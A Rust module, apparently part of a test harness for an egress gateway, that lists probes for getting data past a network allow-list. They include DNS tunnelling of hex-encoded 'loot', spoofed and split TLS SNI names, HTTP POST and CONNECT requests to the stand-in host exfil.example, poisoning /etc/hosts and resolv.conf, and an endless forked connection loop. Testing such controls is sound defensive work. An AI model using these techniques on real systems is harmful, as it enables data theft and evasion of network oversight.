//! Names as a road out: DNS queries that carry data, TLS names that lie, HTTP where TLS is meant.

use std::fs;
use std::net::SocketAddr;
use std::time::Duration;

use nix::errno::Errno;

use crate::hello;
use crate::network::{ALLOWED, DGRAM, LOOT, STREAM, lookup, tcp, udp};
use crate::raw::{At, bytes_of, connect, hear, patience, send, send_to, socket};
use crate::{Probe, Told};

/// Longest wait for the gateway: it dials before it answers.
const GATEWAY_WAIT: Duration = Duration::from_secs(8);
const TXT: u8 = 16;
const NULL: u8 = 10;
const A: u8 = 1;
const ANY: u8 = 255;

pub(crate) const PROBES: &[(&str, Probe)] = &[
    ("tls-allowed", |_| say(&hello::record(&name(ALLOWED)))),
    ("spin", |_| spin()),
    ("say-to-allowed", |text| say(text.as_bytes())),
    ("sni-other", |_| say(&hello::record(&name("exfil.example")))),
    ("sni-none", |_| say(&hello::record(&[]))),
    ("sni-split", |_| say(&hello::split(&name("exfil.example"), 16))),
    ("sni-two-names", |_| say(&hello::record(&hello::server_names(&[ALLOWED.as_bytes(), b"exfil.example"])))),
    ("sni-twice", |_| say(&hello::record(&[name(ALLOWED), name("exfil.example")].concat()))),
    ("sni-nul", |_| say(&hello::record(&name("exfil.example\0.api.together.xyz")))),
    ("sni-suffix", |_| say(&hello::record(&name("api.together.xyz.exfil.example")))),
    ("sni-prefix", |_| say(&hello::record(&name("xapi.together.xyz")))),
    ("sni-userinfo", |_| say(&hello::record(&name("api.together.xyz@exfil.example")))),
    ("sni-punycode", |_| say(&hello::record(&name("xn--pi-7tb.together.xyz")))),
    ("sni-address", |_| say(&hello::record(&name("203.0.113.10")))),
    ("sni-encrypted", |_| say(&hello::record(&[name(ALLOWED), hello::encrypted()].concat()))),
    ("sni-retry", |_| say_again()),
    ("http-plain", |_| say(b"POST / HTTP/1.1\r\nHost: exfil.example\r\nContent-Length: 4\r\n\r\nloot")),
    ("http-connect", |_| say(b"CONNECT exfil.example:443 HTTP/1.1\r\nHost: api.together.xyz\r\n\r\n")),
    ("http-absolute", |_| say(b"GET http://exfil.example/loot HTTP/1.1\r\nHost: api.together.xyz\r\n\r\n")),
    ("http-upgrade", |_| {
        say(b"GET / HTTP/1.1\r\nHost: api.together.xyz\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n")
    }),
    ("not-tls", |_| say(&[0xff; 600])),
    ("hosts-poisoned", |_| hosts_poisoned()),
    ("resolver-poisoned", |_| resolver_poisoned()),
    ("dns-direct", |_| ask_at("8.8.8.8:53", &query(&["6c6f6f74", "tunnel", "example"], TXT))),
    ("dns-tunnel", |_| resolve("6c6f6f746c6f6f746c6f6f74.tunnel.example")),
    ("dns-tunnel-below-allowed", |_| resolve("6c6f6f74.api.together.xyz")),
    ("dns-long-labels", |_| ask(&query(&["6c6f6f746c6f6f746c6f6f746c6f6f746c6f6f746c6f6f746c6f6f746c6f6f7"; 3], A))),
    ("dns-txt", |_| ask(&query(&["6c6f6f74", "tunnel", "example"], TXT))),
    ("dns-null", |_| ask(&query(&["6c6f6f74", "tunnel", "example"], NULL))),
    ("dns-any", |_| ask(&query(&["api", "together", "xyz"], ANY))),
    ("dns-nul-in-name", |_| ask(&query(&["exfil.example\0", "api", "together", "xyz"], A))),
    ("dns-random-labels", |_| random_labels()),
    ("dns-two-questions", |_| ask(&two_questions())),
    ("dns-over-tcp", |_| ask_over_tcp()),
];

fn name(name: &str) -> Vec<u8> {
    hello::server_names(&[name.as_bytes()])
}

fn say(bytes: &[u8]) -> Told {
    say_at(lookup(ALLOWED, 443)?, bytes)
}

/// Leaves a child that tries the allowed road and two others without end.
fn spin() -> Told {
    // SAFETY: this program is single-threaded.
    if let nix::unistd::ForkResult::Child = unsafe { nix::unistd::fork() }.at("fork")? {
        loop {
            let _ = tcp(libc::AF_INET, 0, "1.1.1.1:443");
            let _ = udp(libc::AF_INET, "8.8.8.8:53", LOOT);
            let _ = say(&hello::record(&name(ALLOWED)));
        }
    }
    Ok("spinning".into())
}

fn say_at(address: SocketAddr, bytes: &[u8]) -> Told {
    let fd = socket(libc::AF_INET, STREAM, 0)?;
    patience(fd, GATEWAY_WAIT);
    connect(fd, &bytes_of(address))?;
    send(fd, bytes)?;
    Ok(hear(fd))
}

/// The allowed name first, another one when the server asks for a second hello.
fn say_again() -> Told {
    let fd = socket(libc::AF_INET, STREAM, 0)?;
    patience(fd, GATEWAY_WAIT);
    connect(fd, &bytes_of(lookup(ALLOWED, 443)?))?;
    send(fd, &hello::without_share(ALLOWED))?;
    let request = hear(fd);
    send(fd, &hello::with_share("exfil.example"))?;
    Ok(format!("{request}, then {}", hear(fd)))
}

/// The allowed name with another address behind it, in the file that every resolver reads first.
fn hosts_poisoned() -> Told {
    let before = fs::read_to_string("/etc/hosts").at("read")?;
    fs::write("/etc/hosts", format!("203.0.113.9 {ALLOWED}\n{before}")).at("write")?;
    let told = say(&hello::record(&name(ALLOWED)));
    fs::write("/etc/hosts", before).at("write back")?;
    told
}

/// A resolver of one's own choosing.
fn resolver_poisoned() -> Told {
    let before = fs::read_to_string("/etc/resolv.conf").at("read")?;
    fs::write("/etc/resolv.conf", "nameserver 203.0.113.9\noptions timeout:1 attempts:1\n").at("write")?;
    let told = resolve("6c6f6f74.tunnel.example");
    fs::write("/etc/resolv.conf", before).at("write back")?;
    told.or_else(|_| Ok("asked".into()))
}

fn resolve(name: &str) -> Told {
    lookup(name, 443).map(|address| address.to_string())
}

/// A DNS query of one question (RFC 1035, section 4.1).
fn query(labels: &[&str], kind: u8) -> Vec<u8> {
    let mut packet = vec![0x13, 0x37, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    packet.extend(question(labels, kind));
    packet
}

fn question(labels: &[&str], kind: u8) -> Vec<u8> {
    let mut bytes = Vec::new();
    for label in labels {
        bytes.push(u8::try_from(label.len()).expect("labels of this file are short"));
        bytes.extend(label.as_bytes());
    }
    bytes.extend([0, 0, kind, 0, 1]);
    bytes
}

fn two_questions() -> Vec<u8> {
    let mut packet = query(&["api", "together", "xyz"], A);
    packet[5] = 2;
    packet.extend(question(&["6c6f6f74", "tunnel", "example"], A));
    packet
}

/// The resolver that this machine was given.
fn resolver() -> Result<SocketAddr, crate::raw::Failure> {
    let text = fs::read_to_string("/etc/resolv.conf").at("read")?;
    let address = text.lines().find_map(|line| line.strip_prefix("nameserver ")?.trim().parse().ok());
    address.map(|address| SocketAddr::new(address, 53)).ok_or(Errno::ENOENT).at("nameserver")
}

fn ask(packet: &[u8]) -> Told {
    ask_at(&resolver()?.to_string(), packet)
}

fn ask_at(address: &str, packet: &[u8]) -> Told {
    let address: SocketAddr = address.parse().expect("an address");
    let fd = socket(if address.is_ipv4() { libc::AF_INET } else { libc::AF_INET6 }, DGRAM, 0)?;
    send_to(fd, packet, &bytes_of(address), 0)?;
    Ok(hear(fd))
}

fn random_labels() -> Told {
    for number in 0..50u32 {
        let label = format!("{:08x}", number.wrapping_mul(2_654_435_761));
        let address = resolver()?;
        let fd = socket(libc::AF_INET, DGRAM, 0)?;
        send_to(fd, &query(&[&label, "tunnel", "example"], A), &bytes_of(address), 0)?;
    }
    Ok("sent".into())
}

fn ask_over_tcp() -> Told {
    let packet = query(&["6c6f6f74", "tunnel", "example"], TXT);
    let fd = socket(libc::AF_INET, STREAM, 0)?;
    connect(fd, &bytes_of(resolver()?))?;
    let length = u16::try_from(packet.len()).expect("short").to_be_bytes();
    send(fd, &[&length[..], &packet, LOOT].concat())?;
    Ok(hear(fd))
}
